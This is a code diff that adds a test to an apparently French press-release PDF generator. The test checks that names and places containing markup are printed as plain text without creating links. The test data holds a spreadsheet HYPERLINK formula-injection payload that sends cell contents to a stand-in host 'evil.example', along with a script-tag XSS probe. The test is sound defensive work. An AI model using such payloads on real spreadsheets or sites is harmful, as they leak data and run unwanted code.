@@ -128,3 +128,15 @@ def test_national_release_pdf_leads_with_the_five_at_panel(panels):
     assert "213" in text and "Issy-les-Moulineaux" in text
     page = pdfium.PdfDocument(data)[0]
     assert len(list(page.get_objects(filter=[pdfium_c.FPDF_PAGEOBJ_IMAGE]))) == 1
+
+
+def test_markup_and_addresses_in_names_stay_text():
+    """A name with markup, quotes and an address prints as written: nothing becomes a tag or a
+    link (the DOCX and the text say the same)."""
+    name = '=HYPERLINK("http://evil.example/?d="&A1;"X") <b>gras</b> & « co »'
+    place = '<script>alert("lieu")</script> <b>Salle</b>'
+    subject = dataclasses.replace(SUBJECT, nom=name, ceremony_place=place)
+    data = press_release_pdf(subject, _panel_png(600, 400))
+    text = _squeezed(_text(data))
+    assert _squeezed(name) in text and _squeezed("<script>alert(") in text
+    assert b"/URI" not in data and b"/Annots" not in data
